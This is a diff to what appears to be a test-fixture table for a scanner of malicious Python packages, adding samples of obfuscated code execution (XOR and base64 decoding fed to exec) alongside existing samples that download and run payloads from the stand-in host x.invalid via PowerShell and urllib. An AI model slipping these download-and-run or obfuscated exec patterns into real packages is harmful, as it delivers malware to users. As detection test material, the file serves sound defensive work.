@@ -317,6 +317,16 @@ AT_IMPORT = {
         "open(p, 'w').write('powershell -c \"iwr http://x.invalid/a.exe -OutFile a.exe; ./a.exe\"')\n"
         "os.startfile(p)\n"
     ),
+    # decoding hidden in the package's own classes (the Kramer obfuscator's shape)
+    "decoded in __init__, run from an attribute": (
+        "class K:\n    def __init__(self, data, key):\n"
+        "        self.r = ''.join(chr(ord(c) ^ key) for c in data)\n"
+        "k = K(" + repr("".join(chr(ord(c) ^ 7) for c in _CODE)) + ", 7)\nexec(k.r)\n"
+    ),
+    "decoded by a method of an instance made on the spot": (
+        "import base64\nclass D:\n    def run(self, s):\n        return base64.b64decode(s)\n"
+        "exec(D().run(" + repr(__import__("base64").b64encode(_CODE.encode()).decode()) + "))\n"
+    ),
     "download run by a new interpreter": (
         "import subprocess, sys, urllib.request\n"
         "code = urllib.request.urlopen('https://x.invalid/s.py').read().decode()\n"
